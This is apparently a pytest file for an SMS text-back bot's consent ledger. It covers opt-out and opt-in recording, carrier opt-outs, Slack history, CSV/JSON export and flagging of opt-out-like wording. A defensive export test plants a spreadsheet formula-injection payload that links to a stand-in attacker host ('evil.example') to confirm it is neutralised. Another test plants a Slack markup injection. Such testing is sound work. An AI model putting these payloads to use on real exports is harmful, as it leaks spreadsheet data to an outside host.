"""The consent ledger: what each event writes, opt-outs that stick, history in Slack, the export,
and opt-out-like wording flagged for the crew with a one-tap button."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import sys
import time
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest

from bot.domain import consent
from bot.domain.consent import LedgerEntry
from tests.conftest import (
    BUSINESS_NUMBER,
    CALLER,
    CHANNEL,
    CREW_USER,
    SIGNING_SECRET,
    Harness,
    cards,
    new_sid,
    slash_command,
    thread,
)
from tests.signing import slack_headers
from tests.test_intake import intake_path, open_form

OTHER = "+12125550142"
admins = pytest.mark.settings(ADMIN_USER_IDS=CREW_USER)  # a number's history is for admins
ROOT = Path(__file__).resolve().parent.parent


async def ledger(harness: Harness, phone: str = CALLER) -> list[LedgerEntry]:
    await harness.drained()
    return await harness.services.ledger.history(phone)


def events(entries: list[LedgerEntry]) -> list[str]:
    return [e.event for e in entries]


async def status_callback(harness: Harness, sid: str, code: str) -> Any:
    params = {
        "MessageSid": sid,
        "MessageStatus": "undelivered",
        "ErrorCode": code,
        "To": CALLER,
        "From": BUSINESS_NUMBER,
    }
    return await harness.twilio_post("/twilio/sms/status", params)


# --- what the ledger records -----------------------------------------------------------------


async def test_missed_call_records_implied_consent_and_the_auto_text_sent(
    harness: Harness,
) -> None:
    call_sid = new_sid("CA")
    await harness.missed_call(call_sid=call_sid)
    implied, sent = await ledger(harness)
    assert implied.event == "implied_consent"
    assert implied.detail["call_sid"] == call_sid
    assert implied.detail["called"] == BUSINESS_NUMBER
    assert abs(implied.at - time.time()) < 600
    assert sent.event == "text_sent"
    assert sent.detail["template"] == "business"
    assert sent.detail["version"] == "default"
    assert sent.detail["message_sid"] == harness.twilio.messages[0]["sid"]


async def test_duplicate_call_callbacks_record_the_call_once(harness: Harness) -> None:
    call_sid = new_sid("CA")
    await harness.missed_call(call_sid=call_sid)
    await harness.missed_call(call_sid=call_sid)
    assert events(await ledger(harness)) == ["implied_consent", "text_sent"]


async def test_stop_records_the_opt_out_with_the_message_that_carried_it(
    harness: Harness,
) -> None:
    await harness.caller_text("Stop!")
    (entry,) = await ledger(harness)
    assert entry.event == "opt_out"
    assert entry.detail["source"] == "keyword:STOP"
    assert entry.detail["message"] == "Stop!"
    assert await harness.services.callers.is_opted_out(CALLER, "default")


async def test_opt_out_flag_and_ledger_entry_are_written_in_one_step(harness: Harness) -> None:
    """Read straight after the webhook answers, before the worker did anything."""
    response = await harness.caller_text("UNSUBSCRIBE")
    assert response.status == 200
    services = harness.services
    assert await services.callers.is_opted_out(CALLER, "default")
    assert events(await services.ledger.history(CALLER)) == ["opt_out"]


@pytest.mark.settings(OPT_OUT_CONFIRMATION="app")
async def test_our_opt_out_confirmation_is_recorded_as_an_automated_text(
    harness: Harness,
) -> None:
    await harness.caller_text("STOP")
    opt_out, sent = await ledger(harness)
    assert (opt_out.event, sent.event) == ("opt_out", "text_sent")
    assert sent.detail["template"] == "opt_out_confirmation"


async def test_start_after_stop_records_the_opt_in(harness: Harness) -> None:
    await harness.caller_text("STOP")
    await harness.drained()
    await harness.caller_text("start")
    entries = await ledger(harness)
    assert events(entries) == ["opt_out", "opt_in"]
    assert entries[1].detail["source"] == "keyword:START"
    assert not await harness.services.callers.is_opted_out(CALLER, "default")


async def test_yes_to_the_crew_without_an_opt_out_records_no_opt_in(harness: Harness) -> None:
    await harness.caller_text("Yes")
    assert "opt_in" not in events(await ledger(harness))


async def test_carrier_opt_out_on_send_is_recorded_with_source_carrier(harness: Harness) -> None:
    harness.twilio.fail_for_number(CALLER, code=21610, status=400)
    await harness.missed_call()
    entries = await ledger(harness)
    assert events(entries) == ["implied_consent", "opt_out"]
    assert entries[1].detail["source"] == "carrier"
    assert "21610" in entries[1].detail["message"]
    assert await harness.services.callers.is_opted_out(CALLER, "default")


async def test_carrier_opt_out_in_a_status_callback_is_recorded_once(harness: Harness) -> None:
    await harness.missed_call()
    await harness.drained()
    sid = harness.twilio.messages[0]["sid"]
    assert (await status_callback(harness, sid, "21610")).status == 204
    assert (await status_callback(harness, sid, "21610")).status == 204  # Twilio repeats
    entries = await ledger(harness)
    assert events(entries) == ["implied_consent", "text_sent", "opt_out"]
    assert entries[2].detail["source"] == "carrier"
    assert entries[2].detail["message_sid"] == sid


async def test_ledger_keys_carry_the_number_hash_tag_and_never_expire(harness: Harness) -> None:
    await harness.caller_text("STOP")
    await harness.drained()
    key = harness.services.keys.ledger(CALLER)
    assert f"{{{CALLER}}}" in key
    assert await harness.services.redis.type(key) == "stream"
    assert await harness.services.redis.ttl(key) == -1


# --- /textback history -------------------------------------------------------------------------


@admins
@pytest.mark.parametrize(
    "typed", ["(202) 555-0123", "+1 202 555 0123", "2025550123", "+12025550123"]
)
async def test_history_shows_the_ledger_for_any_common_number_format(
    harness: Harness, typed: str
) -> None:
    await harness.missed_call()
    await harness.drained()
    await harness.caller_text("STOP")
    await harness.drained()
    response = await slash_command(harness, f"history {typed}")
    assert response.status == 200
    text = await response.text()
    assert "(202) 555-0123" in text
    assert "currently *opted out*" in text
    lines = text.splitlines()
    assert [i for i, line in enumerate(lines) if "Called (implied consent)" in line] == [1]
    assert "Automated text sent" in lines[2]
    assert "Opted out" in lines[3] and "keyword:STOP" in lines[3]


@admins
async def test_history_of_a_bad_number_answers_with_usage(harness: Harness) -> None:
    response = await slash_command(harness, "history 12ab")
    text = await response.text()
    assert "not a phone number" in text
    assert "/textback history <number>" in text
    empty = await (await slash_command(harness, "history")).text()
    assert empty.startswith("Usage:")


@admins
async def test_history_escapes_what_the_caller_wrote(harness: Harness) -> None:
    await harness.caller_text("STOP")
    await harness.drained()
    # A carrier opt-out's message is ours, but a crew-visible field must never carry raw markup.
    await harness.services.ledger.append(
        OTHER, "opt_out", time.time(), source="keyword:STOP", message="<!channel> stop"
    )
    text = await (await slash_command(harness, f"history {OTHER}")).text()
    assert "<!channel>" not in text
    assert "&lt;!channel&gt;" in text


# --- export ------------------------------------------------------------------------------------


async def run_export(harness: Harness, *args: str) -> tuple[str, str]:
    s = harness.settings
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "PUBLIC_URL": s.public_url,
        "REDIS_URL": s.redis_url or "",
        "REDIS_KEY_PREFIX": s.redis_key_prefix,
        "SLACK_BOT_TOKEN": "xoxb-export",
        "SLACK_SIGNING_SECRET": "x",
        "SLACK_CHANNEL_ID": CHANNEL,
        "TWILIO_ACCOUNT_SID": "ACexport",
        "TWILIO_AUTH_TOKEN": "x",
        "BUSINESS_NAME": "Johnson Electric",
    }
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "bot",
        "consent",
        "export",
        *args,
        env=env,
        cwd=ROOT,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    out, err = await asyncio.wait_for(process.communicate(), timeout=120)
    assert process.returncode == 0, err.decode()
    return out.decode(), err.decode()


async def test_consent_export_csv_writes_every_number_with_progress_on_stderr(
    harness: Harness,
) -> None:
    await harness.missed_call()
    await harness.drained()
    await harness.caller_text("STOP")
    await harness.caller_text("please remove me", caller=OTHER)
    await harness.drained()
    out, err = await run_export(harness, "--format", "csv")
    print(out)  # the sample in the closing note comes from here
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [(r["phone"], r["event"]) for r in rows if r["phone"] == CALLER] == [
        (CALLER, "implied_consent"),
        (CALLER, "text_sent"),
        (CALLER, "opt_out"),
    ]
    assert all(r["phone"] != OTHER for r in rows)  # a flag alone records nothing
    assert rows[0]["at"].endswith("Z")
    assert "done, 3 entries from 1 numbers" in err


async def test_consent_export_json_since_and_output_file(harness: Harness, tmp_path: Path) -> None:
    await harness.caller_text("STOP")
    await harness.drained()
    harness.clock.advance(3 * 86_400)
    await harness.caller_text("START")
    await harness.drained()
    since = time.strftime("%Y-%m-%d", time.gmtime(harness.clock() - 86_400))
    target = tmp_path / "ledger.json"
    out, _ = await run_export(
        harness, "--format", "json", "--since", since, "--output", str(target)
    )
    assert out == ""
    rows = json.loads(target.read_text())
    assert [(r["phone"], r["event"]) for r in rows] == [(CALLER, "opt_in")]


async def test_consent_export_rejects_a_bad_date(harness: Harness) -> None:
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "bot",
        "consent",
        "export",
        "--since",
        "last week",
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    _, err = await asyncio.wait_for(process.communicate(), timeout=60)
    assert process.returncode == 2
    assert b"use a date like 2026-11-01" in err


# --- opt-out-like wording ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        "please stop texting me",
        "Remove me",
        "wrong number, don't text",
        "unsubscribe me please",
        "do not contact",
        "Stop please",
        "Don’t message this number again",
        "take me off your list",
        "no more texts",
    ],
)
def test_opt_out_like_wording_is_recognised(body: str) -> None:
    assert consent.opt_out_phrase(body)


@pytest.mark.parametrize(
    "body",
    [
        "Can you stop by Tuesday to look at the panel?",
        "The breaker won't stop tripping",
        "Need a quote for a 200 amp upgrade",
        "text me when you're on the way",
        "Yes",
    ],
)
def test_ordinary_messages_are_not_flagged(body: str) -> None:
    assert consent.opt_out_phrase(body) is None


def flag_post(harness: Harness) -> dict[str, Any]:
    """The flag as Slack holds it (with its ts)."""
    # In the thread: the lead card (the thread parent) has blocks of its own.
    (post,) = [m for m in harness.slack.messages.values() if m.get("blocks") and m.get("thread_ts")]
    return post


async def press_opt_out_button(
    harness: Harness, post: dict[str, Any], user: str = CREW_USER
) -> Any:
    blocks = post["blocks"] if isinstance(post["blocks"], list) else json.loads(post["blocks"])
    (button,) = blocks[1]["elements"]
    payload = {
        "type": "block_actions",
        "user": {"id": user, "username": "crew"},
        "api_app_id": "A0APP",
        "team": {"id": "T0TEAM"},
        "channel": {"id": CHANNEL},
        "container": {"type": "message", "channel_id": CHANNEL, "message_ts": post["ts"]},
        "message": {"ts": post["ts"], "thread_ts": post["thread_ts"], "text": post["text"]},
        "trigger_id": "1.2",
        "response_url": "https://hooks.slack.invalid/actions",
        "actions": [
            {
                "type": "button",
                "action_id": button["action_id"],
                "block_id": "b1",
                "value": button["value"],
                "action_ts": f"{time.time():.6f}",
            }
        ],
    }
    body = urlencode({"payload": json.dumps(payload)})
    headers = {
        "Content-Type": "application/x-www-form-urlencoded",
        **slack_headers(SIGNING_SECRET, body),
    }
    return await harness.client.post("/slack/events", data=body, headers=headers)


async def test_opt_out_like_text_is_flagged_with_a_button_and_nothing_recorded(
    harness: Harness,
) -> None:
    await harness.missed_call()
    await harness.drained()
    await harness.caller_text("wrong number, don't text <!channel>")
    await harness.drained()
    (card,) = cards(harness)
    message, flag = thread(harness, card["ts"])
    assert ">wrong number, don't text &lt;!channel&gt;" in message
    assert "reads like an opt-out" in flag
    post = flag_post(harness)
    assert post["thread_ts"] == card["ts"]
    assert "record_opt_out" in json.dumps(post["blocks"])
    assert not await harness.services.callers.is_opted_out(CALLER, "default")
    assert "opt_out" not in events(await ledger(harness))


async def test_crew_button_records_the_opt_out_once_with_the_crew_member(
    harness: Harness,
) -> None:
    await harness.missed_call()
    await harness.drained()
    await harness.caller_text("please stop texting me")
    await harness.drained()
    post = flag_post(harness)
    response = await press_opt_out_button(harness, post)
    assert response.status == 200
    assert await harness.services.callers.is_opted_out(CALLER, "default")
    await harness.drained()
    assert "Opt-out recorded by <@U0CREW>" in thread(harness, post["thread_ts"])[-1]
    await press_opt_out_button(harness, post, user="U0OTHER")
    await harness.drained()
    assert "already opted out" in thread(harness, post["thread_ts"])[-1]
    opt_outs = [e for e in await ledger(harness) if e.event == "opt_out"]
    assert [e.detail["source"] for e in opt_outs] == ["crew:U0CREW"]
    # Opted out means no more automated texts: the next missed call sends nothing.
    harness.clock.advance(2 * 86_400)
    await harness.missed_call()
    await harness.drained()
    assert len(harness.twilio.messages_to(CALLER)) == 1


async def test_already_opted_out_caller_is_not_flagged_again(harness: Harness) -> None:
    await harness.caller_text("STOP")
    await harness.drained()
    await harness.caller_text("seriously stop texting me")
    await harness.drained()
    assert [p for p in harness.slack.posts if p.get("blocks") and p.get("thread_ts")] == []


async def test_consent_export_writes_what_a_spreadsheet_would_run_as_text(
    harness: Harness,
) -> None:
    """The user agent and forwarded-for kept with an intake consent are the visitor's to write."""
    path = await intake_path(harness)
    form = await open_form(harness, path)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    response = await harness.client.post(
        path,
        data={**form, "need": "Outlet", "consent": "yes"},
        headers={"User-Agent": evil, "X-Forwarded-For": "@SUM(1+1)"},
    )
    assert response.status == 200
    out, _ = await run_export(harness, "--format", "csv")
    (row,) = [r for r in csv.DictReader(io.StringIO(out)) if r["event"] == "explicit_consent"]
    assert row["user_agent"] == "'" + evil
    assert row["forwarded_for"] == "'@SUM(1+1)"
    assert row["phone"] == CALLER  # E.164 stays as it is
